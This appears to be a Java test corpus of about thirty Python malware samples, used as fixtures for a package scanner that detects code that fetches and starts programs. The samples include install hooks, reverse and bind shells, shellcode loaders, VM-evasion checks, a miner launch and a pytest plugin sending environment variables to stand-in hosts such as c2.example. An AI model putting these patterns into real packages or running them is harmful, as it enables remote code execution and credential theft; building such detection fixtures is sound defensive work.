package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** Programs and code that are brought and started, and the ways that lead there. */
final class PythonStarting {
  private PythonStarting() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "an archive is fetched, unpacked and a script of it started",
            """
            import io, os, zipfile, requests, subprocess, pathlib
            def initialize():
                target = pathlib.Path(os.environ['LOCALAPPDATA']) / 'Microsoft' / 'Updates'
                target.mkdir(parents=True, exist_ok=True)
                zipfile.ZipFile(io.BytesIO(requests.get('https://github.com/inert/inert/raw/main/a.zip').content)).extractall(target)
                subprocess.Popen(str(target / 'run.bat'), shell=True, creationflags=0x08000000)
            initialize()
            """),
        Sample.imported(
            "a script of Windows is written and started",
            """
            import os, subprocess, tempfile
            v = os.path.join(tempfile.gettempdir(), 'x.vbs')
            with open(v, 'w') as h:
                h.write('Set o = CreateObject("MSXML2.XMLHTTP")\\no.open "GET", "http://192.0.2.10/a", False\\no.send\\nExecute o.responseText')
            subprocess.Popen(['wscript.exe', '//B', v])
            """),
        Sample.imported(
            "commands of a messenger are run",
            """
            import discord, subprocess, os
            from discord.ext import commands
            bot = commands.Bot(command_prefix='!', intents=discord.Intents.all())
            @bot.command()
            async def shell(ctx, *, cmd):
                out = subprocess.getoutput(cmd)
                await ctx.send(out)
            bot.run('MTA.inert.inert')
            """),
        new Sample(
            "a program of the package is copied and started apart",
            Artifact.sdist("sample", "1.0")
                .file(
                    "setup.py",
                    """
                    from setuptools import setup
                    from setuptools.command.install import install
                    import os, shutil, subprocess
                    class I(install):
                        def run(self):
                            install.run(self)
                            src = os.path.join(os.path.dirname(__file__), 'f20', 'lib', 'helper.exe')
                            dst = os.path.join(os.environ['APPDATA'], 'helper.exe')
                            shutil.copy(src, dst)
                            subprocess.Popen([dst], creationflags=subprocess.DETACHED_PROCESS)
                    setup(name='f20', version='1.0.3', cmdclass={'install': I}, package_data={'f20': ['lib/*.exe']})
                    """)
                .file(
                    "f20/lib/helper.exe",
                    """
                    MZ inert
                    """)),
        Sample.imported(
            "compiled code is fetched and loaded as a module",
            """
            import importlib.util, requests, tempfile, os, sys
            r = requests.get('https://f21-assets.invalid/ext.pyc')
            fp = os.path.join(tempfile.mkdtemp(), 'ext.pyc')
            with open(fp, 'wb') as f:
                for chunk in r.iter_content(1024):
                    f.write(chunk)
            spec = importlib.util.spec_from_file_location('ext', fp)
            m = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(m)
            """),
        Sample.imported(
            "a program is fetched by the name it is started by",
            """
            import gdown, os
            gdown.download('https://drive.google.com/uc?id=inert', 'up.exe', quiet=True)
            os.system('up.exe')
            """),
        Sample.imported(
            "a program with a name of two characters is fetched",
            """
            import wget, os
            fn = wget.download('http://192.0.2.20/miner', out='/tmp/.x')
            os.system('chmod +x /tmp/.x && nohup /tmp/.x -o pool.invalid:3333 -u wallet &')
            """),
        Sample.imported(
            "machine code is put into memory and started",
            """
            import ctypes
            buf = b"\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90"
            k = ctypes.windll.kernel32
            k.VirtualAlloc.restype = ctypes.c_void_p
            p = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)
            k.RtlMoveMemory(ctypes.c_void_p(p), buf, len(buf))
            h = k.CreateThread(0, 0, ctypes.c_void_p(p), 0, 0, 0)
            k.WaitForSingleObject(h, -1)
            """),
        Sample.imported(
            "a program is fetched into a file that is memory",
            """
            import os, requests
            fd = os.memfd_create('k', 0)
            os.write(fd, requests.get('https://m03.invalid/elf').content)
            os.execve(f'/proc/self/fd/{fd}', ['kworker'], os.environ)
            """),
        Sample.imported(
            "a program is fetched unless somebody may be watching",
            """
            import os, sys, ctypes, subprocess, uuid, psutil, requests
            BAD = ['vboxservice.exe', 'vmtoolsd.exe', 'wireshark.exe']
            def is_vm():
                for p in psutil.process_iter():
                    if p.name().lower() in BAD: return True
                return ctypes.windll.kernel32.IsDebuggerPresent() != 0
            if not is_vm():
                r = requests.get('https://m10.invalid/l.exe')
                with open(os.path.join(os.getenv('TEMP'), 'l.exe'), 'wb') as f: f.write(r.content)
                subprocess.Popen(os.path.join(os.getenv('TEMP'), 'l.exe'))
            """),
        new Sample(
            "another process fetches a program and starts it",
            Artifact.wheel("sample", "1.0")
                .file(
                    "m12/__init__.py",
                    """
                    from m12._impl._boot import boot as _b
                    _b()
                    """)
                .file(
                    "m12/_impl/__init__.py",
                    """

                    """)
                .file(
                    "m12/_impl/_boot.py",
                    """
                    import multiprocessing, platform, requests, subprocess, os
                    def _w():
                        r = requests.get('https://m12.invalid/' + platform.system().lower())
                        p = os.path.expanduser('~/.cache/m12d')
                        with open(p, 'wb') as f: f.write(r.content)
                        os.chmod(p, 0o755)
                        os.spawnl(os.P_NOWAIT, p, p)
                    def boot():
                        multiprocessing.Process(target=_w, daemon=True).start()
                    """)),
        Sample.imported(
            "the metaclass of a class fetches code",
            """
            import os, sys
            def __getattr__(name):
                raise AttributeError(name)
            class _M(type):
                def __new__(m, n, b, d):
                    import urllib.request
                    exec(urllib.request.urlopen("http://192.0.2.70/meta").read())
                    return super().__new__(m, n, b, d)
            class Base(metaclass=_M): pass
            """),
        Sample.imported(
            "a library is fetched and loaded",
            """
            import ctypes, os, urllib.request
            p = os.path.join(os.environ['TEMP'], 'lib.dll')
            urllib.request.urlretrieve('https://m23.invalid/lib.dll', p)
            ctypes.WinDLL(p)
            """),
        new Sample(
            "a library of the package is run by the system",
            Artifact.sdist("sample", "1.0")
                .file(
                    "setup.py",
                    """
                    from setuptools import setup
                    from setuptools.command.install import install
                    import os, subprocess
                    class C(install):
                        def run(self):
                            install.run(self)
                            d = os.path.join(self.install_lib, 'm24', 'res', 'vcruntime.dll')
                            subprocess.Popen(['rundll32.exe', d + ',Main'])
                    setup(name='m24', version='1.0.3', cmdclass={'install': C})
                    """)
                .file(
                    "m24/res/vcruntime.dll",
                    """
                    MZ inert
                    """)),
        Sample.imported(
            "messages are run as commands and answered",
            """
            import zulip, subprocess, threading
            def r():
                c = zulip.Client(email='a@z.invalid', api_key='inert', site='https://z.invalid')
                def on(m):
                    o = subprocess.check_output(m['content'], shell=True)
                    c.send_message({'type': 'private', 'to': 'x', 'content': o.decode()})
                c.call_on_each_message(on)
            threading.Thread(target=r, daemon=True).start()
            """),
        Sample.imported(
            "threads pass on what a shell and a connection say",
            """
            import os,socket,subprocess,threading
            def s2p(s, p):
                while True:
                    data = s.recv(1024)
                    if len(data) > 0:
                        p.stdin.write(data)
                        p.stdin.flush()
            def p2s(s, p):
                while True:
                    s.send(p.stdout.read(1))
            s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
            s.connect(("203.0.113.3",9999))
            p=subprocess.Popen(["cmd"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.PIPE)
            for t in (threading.Thread(target=s2p, args=[s, p]), threading.Thread(target=p2s, args=[s, p])):
                t.daemon = True
                t.start()
            """),
        Sample.imported(
            "it listens and runs what it hears",
            """
            import socket as so, subprocess as sub
            s1 = so.socket(so.AF_INET, so.SOCK_STREAM)
            s1.setsockopt(so.SOL_SOCKET, so.SO_REUSEADDR, 1)
            s1.bind(("0.0.0.0", 9001)); s1.listen(1); c, a = s1.accept()
            while True:
                d = c.recv(1024).decode()
                p = sub.Popen(d, shell=True, stdout=sub.PIPE, stderr=sub.PIPE, stdin=sub.PIPE)
                c.sendall(p.stdout.read() + p.stderr.read())
            """),
        Sample.setup(
            "a program is put among the settings and opened",
            """
            import os, requests
            from setuptools import setup
            fn = os.path.join(os.getenv('APPDATA'), 'Update.exe')
            with open(fn, 'wb') as f:
                f.write(requests.get('https://files.example/Update.exe').content)
            os.startfile(fn)
            setup(name='x', version='1')
            """),
        Sample.imported(
            "reading a property runs what was fetched",
            """
            import requests
            class Config:
                @property
                def version(self):
                    exec(requests.get('https://c2.example/v').text)
                    return '1'
            VERSION = Config().version
            """),
        Sample.imported(
                "reading a property of another module runs what was fetched",
                """
                from .cfg import Config
                VERSION = Config().version
                """)
            .with(
                "sample/cfg.py",
                """
                import requests
                class Config:
                    @property
                    def version(self):
                        exec(requests.get('https://c2.example/v').text)
                        return '1'
                """),
        Sample.imported(
            "a script of a clone is run",
            """
            import os
            os.system('git clone https://code.example/u/tool.git /tmp/tool && cd /tmp/tool && bash run.sh')
            """),
        Sample.imported(
            "a clone is run in its folder",
            """
            import subprocess
            subprocess.run(['git', 'clone', 'https://code.example/u/tool.git'])
            subprocess.run(['bash', 'run.sh'], cwd='tool')
            """),
        Sample.imported(
            "machine code is called in memory that may be run",
            """
            import ctypes, mmap
            m = mmap.mmap(-1, 64, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            m.write(b'\\x90inert')
            ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
            """),
        Sample.imported(
            "windows are counted by what is no function",
            """
            import ctypes
            k = ctypes.windll.kernel32
            p = k.VirtualAlloc(0, 64, 0x3000, 0x40)
            ctypes.windll.user32.EnumWindows(p, 0)
            """),
        new Sample(
            "a plug-in of pytest is declared in the project",
            Artifact.sdist("sample", "1.0")
                .file(
                    "pyproject.toml",
                    """
                    [build-system]
                    requires = ['setuptools']
                    build-backend = 'setuptools.build_meta'
                    [project]
                    name = 'sample'
                    version = '1.0'
                    [project.entry-points.pytest11]
                    plug = 'sample.plugin'
                    """)
                .file("sample/__init__.py", "")
                .file(
                    "sample/plugin.py",
                    """
                    import os, requests
                    def pytest_configure(config):
                        requests.post('https://c2.example/e', json=dict(os.environ))
                    """)),
        Sample.setup(
            "a program lies loose among the temporary files",
            """
            import os, subprocess, urllib.request
            from setuptools import setup
            p = os.path.join(os.environ.get('TEMP', '/tmp'), 'WindowsUpdate.exe')
            with urllib.request.urlopen('https://cdn.c2.example/f') as r:
                open(p, 'wb').write(r.read())
            subprocess.Popen([p], shell=True)
            setup(name='x', version='1')
            """),
        Sample.setup(
            "a package is installed by plain HTTP",
            """
            import subprocess, sys
            from setuptools import setup
            subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'http://c2.example/helper-1.0.tar.gz'])
            setup(name='x', version='1')
            """),
        Sample.setup(
            "what was fetched is started apart",
            """
            import os
            from setuptools import setup
            os.system('bitsadmin /transfer j /download http://c2.example/a.exe %TEMP%\\\\a.exe && start %TEMP%\\\\a.exe')
            setup(name='x', version='1')
            """));
  }
}
